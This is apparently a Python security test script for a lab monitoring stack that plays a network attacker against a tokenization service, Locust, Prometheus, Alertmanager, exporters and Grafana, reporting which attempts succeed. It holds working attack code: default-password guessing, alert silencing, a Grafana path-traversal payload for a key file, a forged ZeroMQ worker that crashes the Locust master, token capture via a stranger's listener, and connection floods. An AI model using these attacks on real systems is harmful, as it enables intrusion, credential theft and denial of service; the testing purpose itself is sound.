# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright (c) 2026, the monitor_lab contributors
"""Somebody on the lab's network, with nothing but an address and a browser's or a programmer's means.

`stranger.py try HOSTS` tries to get in: HOSTS is a JSON object, service → address. `stranger.py connect PORTS` only
connects: PORTS is a JSON list of an address and a port each. Prints a table, JSON lines of what was tried, what the
stranger got, and whether that is a success. It ends with 1 where one is, and where nobody was there who could refuse.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import selectors
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from urllib.error import HTTPError
from urllib.parse import urlencode
from urllib.request import HTTPRedirectHandler, HTTPSHandler, ProxyHandler, Request, build_opener

PORTS = {
    "tokenization": 30500,
    "locust": 8089,
    "locust_exporter": 9646,
    "node_exporter": 9100,
    "container_exporter": 9647,
    "alertmanager": 9093,
    "prometheus": 9090,
    "grafana": 3000,
}
MASTER_PORT = 5557
SECONDS = 10
# They believe whoever answers.
TRUSTING = ssl._create_unverified_context()
TINY_HEADER = b"a:b\r\n"
HEAD = b"POST /tokenize HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
# Of ZeroMQ's protocol (https://rfc.zeromq.org/spec/23/): a greeting without encryption, and who is READY.
GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
WHO = b"\x05READY\x0bSocket-Type\x00\x00\x00\x06DEALER\x08Identity\x00\x00\x00\x01x"
READY = b"\x04" + bytes([len(WHO)]) + WHO
# What deafens a master that reads it, ["locustfile", null, "x"], as MessagePack.
DEAFENING = b"\x93\xaalocustfile\xc0\xa1x"


class Same(HTTPRedirectHandler):
    """Where one is sent to a login, that is the answer."""

    def redirect_request(self, *_arguments: object) -> None:
        return None


OPENER = build_opener(ProxyHandler({}), HTTPSHandler(context=TRUSTING), Same)


def ask(url: str, body: bytes | None = None, /, **headers: str) -> tuple[int, str, str]:
    """Return the status, 0 for no answer, the text, and the cookies that came with it."""
    request = Request(url, body, {name.replace("_", "-"): value for name, value in headers.items()})
    try:
        with OPENER.open(request, timeout=SECONDS) as answer:
            return answer.status, answer.read(100_000).decode(errors="replace"), answer.headers.get("Set-Cookie", "")
    except HTTPError as error:
        return error.code, error.read(100_000).decode(errors="replace"), error.headers.get("Set-Cookie", "")
    except OSError as error:
        return 0, str(error), ""


def basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


class Table:
    def __init__(self) -> None:
        self.failed = False

    def row(self, tried: str, got: str, success: bool) -> None:
        self.failed |= success
        print(json.dumps({"tried": tried, "got": got[:160], "success": success}), flush=True)

    def asked(self, tried: str, url: str, body: bytes | None = None, /, **headers: str) -> None:
        """A row for a request, which succeeds where it is answered as one wishes."""
        status, text, cookies = ask(url, body, **headers)
        got = f"{status} {text.strip().splitlines()[0] if text.strip() else ''}".strip()
        self.row(tried, got, 200 <= status < 300 or "session" in cookies)
        # Nothing is tried of what is not there; in clear, no answer is the right one.
        self.failed |= status == 0 and url.startswith("https:")


@contextlib.contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Yield the URL of a server of the stranger's, and a list of the headers that come to it."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(str(self.headers))
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, format: str, *arguments: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://{socket.gethostbyname(socket.gethostname())}:{server.server_port}", heard
        server.shutdown()


def service(table: Table, url: str) -> None:
    """S2 and S12: names, metrics and data of the tokenization service."""
    json_type = {"Content_Type": "application/json"}
    name = b'{"name": "card", "data": "4111"}'
    table.asked("tokenization: write a name", f"{url}/tokenize", name, **json_type)
    table.asked("tokenization: overwrite it", f"{url}/tokenize", name.replace(b"4111", b"0000"), **json_type)
    table.asked("tokenization: read a name", f"{url}/detokenize", b'{"name": "card"}', **json_type)
    guess = {"Authorization": "Bearer 0"}
    table.asked("tokenization: read it with a guess", f"{url}/detokenize", b'{"name": "card"}', **json_type, **guess)
    table.asked("tokenization: read metrics", f"{url}/metrics")
    table.asked("tokenization: read metrics with a guess", f"{url}/metrics", **guess)


def locust(table: Table, url: str) -> None:
    """S1 and S2: runs, logs and reports of Locust, and the token that its users send."""
    with listening() as (own, heard):
        form = urlencode({"user_count": 3, "spawn_rate": 3, "host": own, "run_time": "3s"}).encode()
        table.asked("Locust: load a host of the stranger's (S1)", f"{url}/swarm", form)
        foreign = {"Origin": own, "Sec_Fetch_Site": "cross-site"}
        table.asked("Locust: let a browser do it", f"{url}/swarm", form, **foreign)
        time.sleep(2)
        tokens = [headers for headers in heard if "Bearer" in headers]
        table.row(
            "Locust: get the token of the vault (S1)", f"{len(heard)} requests, {len(tokens)} tokens", bool(tokens)
        )
    for path in ("/stop", "/stats/reset", "/stats/requests", "/stats/report", "/stats/requests/csv", "/exceptions"):
        table.asked(f"Locust: GET {path}", f"{url}{path}")
    for path in ("/logs", "/tasks", "/stats/histograms", "/monitor-lab/run"):
        table.asked(f"Locust: GET {path}", f"{url}{path}")
    for user, password in (("locust", "locust"), ("admin", "admin"), ("locust", "")):
        table.asked(f"Locust: log in as {user} with {password!r}", f"{url}/logs", Authorization=basic(user, password))
    status, _text, cookies = ask(f"{url}/login", urlencode({"username": "locust", "password": "locust"}).encode())
    table.row("Locust: log in by its form", f"{status} {'a cookie' if cookies else 'no cookie'}", bool(cookies))


def master(table: Table, address: str) -> None:
    """S2 and S5: be a worker without the workers' key."""
    heard, ended = b"", ""
    try:
        with socket.create_connection((address, MASTER_PORT), SECONDS) as connection:
            connection.settimeout(3)
            # Before one that wants encryption breaks off.
            heard = connection.recv(10)
            connection.sendall(GREETING)
            while len(heard) < len(GREETING) and (part := connection.recv(200)):
                heard += part
            connection.sendall(READY + b"\x00" + bytes([len(DEAFENING)]) + DEAFENING)
            while b"READY" not in heard and (part := connection.recv(200)):
                heard += part
    except OSError as error:
        ended = str(error)
    # A master that takes anybody is READY, too.
    table.row("Locust's master: join, and deafen it (S5)", f"{heard!r} {ended}", b"READY" in heard)
    table.failed |= not heard.startswith(b"\xff")


def exporter(name: str, table: Table, url: str) -> None:
    for path in ("/", "/metrics", "/debug/pprof/"):
        table.asked(f"{name}: GET {path}", f"{url}{path}")
    for user in (name, "prometheus"):
        table.asked(f"{name}: log in as {user}", f"{url}/metrics", Authorization=basic(user, user))


def prometheus(table: Table, url: str) -> None:
    for path in (
        "/api/v1/query?query=up",
        "/api/v1/status/config",
        "/api/v1/status/flags",
        "/debug/pprof/",
        "/metrics",
    ):
        table.asked(f"Prometheus: GET {path}", f"{url}{path}", Origin="http://stranger.example")
    for path in ("/-/reload", "/-/quit", "/api/v1/admin/tsdb/snapshot", "/api/v1/write", "/api/v1/query"):
        table.asked(f"Prometheus: POST {path}", f"{url}{path}", b"query=up")
    table.asked("Prometheus: log in", f"{url}/api/v1/query?query=up", Authorization=basic("prometheus", "prometheus"))


def alertmanager(table: Table, url: str) -> None:
    for path in ("/", "/api/v2/alerts", "/api/v2/status", "/metrics", "/debug/pprof/"):
        table.asked(f"Alertmanager: GET {path}", f"{url}{path}", Origin="http://stranger.example")
    matcher = {"name": "class", "value": "security", "isRegex": False}
    times = {"startsAt": "2020-01-01T00:00:00Z", "endsAt": "2099-01-01T00:00:00Z"}
    silence = json.dumps({"matchers": [matcher], **times, "createdBy": "stranger", "comment": "quiet"}).encode()
    alert = json.dumps([{"labels": {"alertname": "LoadRunActive"}}]).encode()
    for path, body in (("/api/v2/silences", silence), ("/api/v2/alerts", alert), ("/-/reload", b"")):
        table.asked(f"Alertmanager: POST {path}", f"{url}{path}", body, Content_Type="application/json")
    for user in ("alertmanager", "prometheus"):
        table.asked(f"Alertmanager: log in as {user}", f"{url}/api/v2/status", Authorization=basic(user, user))


def grafana(table: Table, url: str) -> None:
    """What Grafana gives without a login where one lets it, or gave in a version with a hole.

    The stand-in that the scenario has (tests/grafana_stand_in) knows one password, and viewers without a login. It has
    no form to log in by, no cookies, snapshots, queries, metrics, users or proxies: what it refuses of those shows
    nothing of Grafana. One on hosts of one's own has them all (MONITOR_LAB_INVENTORY).
    """
    for path in (
        *("/api/org", "/api/search", "/api/dashboards/uid/monitor-lab-locust", "/api/folders", "/api/annotations"),
        *("/api/frontend/settings", "/api/users", "/api/admin/settings", "/api/snapshots/:key", "/metrics"),
        *("/api/datasources", "/api/datasources/uid/monitor-lab-prometheus"),
        "/api/datasources/proxy/1/api/v1/query?query=up",
        "/api/datasources/proxy/uid/monitor-lab-prometheus/api/v1/query?query=up",
        "/public/plugins/prometheus/../../../../../../../../etc/monitor_lab/keys/admin_password",
    ):
        table.asked(f"Grafana: GET {path}", f"{url}{path}", Origin="http://stranger.example")
    board = {"uid": "stranger", "title": "A stranger's", "panels": []}
    query = {"refId": "A", "datasource": {"uid": "monitor-lab-prometheus"}, "expr": "up"}
    for path, body in (
        ("/api/dashboards/db", {"dashboard": board, "overwrite": True}),
        ("/api/folders", {"title": "A stranger's"}),
        ("/api/annotations", {"text": "A stranger's", "time": 1, "timeEnd": 2}),
        ("/api/snapshots", {"dashboard": board}),
        ("/api/ds/query", {"queries": [query], "from": "now-1h", "to": "now"}),
        ("/api/user/signup", {"email": "stranger@example.org"}),
        ("/api/admin/users", {"login": "stranger", "password": "stranger"}),
        ("/login", {"user": "admin", "password": "admin"}),
    ):
        given = json.dumps(body).encode()
        table.asked(f"Grafana: POST {path}", f"{url}{path}", given, Content_Type="application/json")
    for user, password in (("admin", "admin"), ("admin", ""), ("admin", "grafana")):
        table.asked(
            f"Grafana: log in as {user} with {password!r}", f"{url}/api/org", Authorization=basic(user, password)
        )
    table.asked("Grafana: be who a proxy says", f"{url}/api/org", X_WEBAUTH_USER="admin")
    table.asked("Grafana: guess a token", f"{url}/api/org", Authorization="Bearer 0")


def flood(address: str, connections: int, data: bytes) -> int:
    """Send `data` by so many connections, as far as it is taken, and hold them for a moment; return how many came."""

    def connect(_unused: int) -> ssl.SSLSocket | None:
        try:
            return TRUSTING.wrap_socket(socket.create_connection((address, PORTS["tokenization"]), SECONDS))
        except OSError:
            return None

    with contextlib.ExitStack() as opened, selectors.DefaultSelector() as selector, ThreadPoolExecutor(8) as handshakes:
        made = [one for one in handshakes.map(connect, range(connections)) if one]
        for connection in made:
            opened.enter_context(connection)
            connection.setblocking(False)
            selector.register(connection, selectors.EVENT_WRITE, memoryview(data))
        end = time.monotonic() + 3
        while selector.get_map() and time.monotonic() < end:
            for key, _unused in selector.select(0.1):
                assert isinstance(key.fileobj, ssl.SSLSocket)
                try:
                    left = key.data[key.fileobj.send(key.data) :]
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue
                except OSError:
                    left = b""
                if left:
                    selector.modify(key.fileobj, selectors.EVENT_WRITE, left)
                else:
                    selector.unregister(key.fileobj)
    return len(made)


def memory(table: Table, address: str) -> None:
    """S4: whoever is here fills the service's memory. Whether it was started again meanwhile, its host tells."""
    url = f"https://{address}:{PORTS['tokenization']}/healthz"
    for name, connections, data in (
        ("tiny headers", 150, b"GET / HTTP/1.1\r\n" + TINY_HEADER * 13_000),
        ("requests behind each other", 300, b"GET /healthz HTTP/1.1\r\n\r\n" * 40_000),
        ("headers and held bodies", 900, HEAD + TINY_HEADER * 14_000 + b"Content-Length: 65536\r\n\r\n{"),
    ):
        made = flood(address, connections, data)
        status = ask(url)[0]
        table.row(f"tokenization: {name} (S4)", f"{made} of {connections} connections, then {status}", status != 200)


def in_clear(table: Table, hosts: dict[str, str]) -> None:
    """S2: what is said without TLS can be read by whoever is here."""
    for name, address in hosts.items():
        table.asked(f"{name}: talk in clear", f"http://{address}:{PORTS[name]}/metrics")


def try_all(hosts: dict[str, str]) -> bool:
    table = Table()
    tries: dict[str, Callable[[Table, str], None]] = {
        "tokenization": service,
        "locust": locust,
        **{name: partial(exporter, name) for name in ("locust_exporter", "node_exporter", "container_exporter")},
        "alertmanager": alertmanager,
        "prometheus": prometheus,
        "grafana": grafana,
    }
    for name, trial in tries.items():
        trial(table, f"https://{hosts[name]}:{PORTS[name]}")
    master(table, hosts["locust"])
    in_clear(table, hosts)
    memory(table, hosts["tokenization"])
    return table.failed


def connect_to(ports: list[tuple[str, int]]) -> bool:
    table = Table()
    for address, port in ports:
        try:
            socket.create_connection((address, port), 3).close()
            got = "a connection"
        except OSError as error:
            got = str(error)
        table.row(f"connect to {address}:{port}", got, got == "a connection")
    return table.failed


if __name__ == "__main__":
    given = json.loads(sys.argv[2])
    sys.exit(try_all(given) if sys.argv[1] == "try" else connect_to(given))
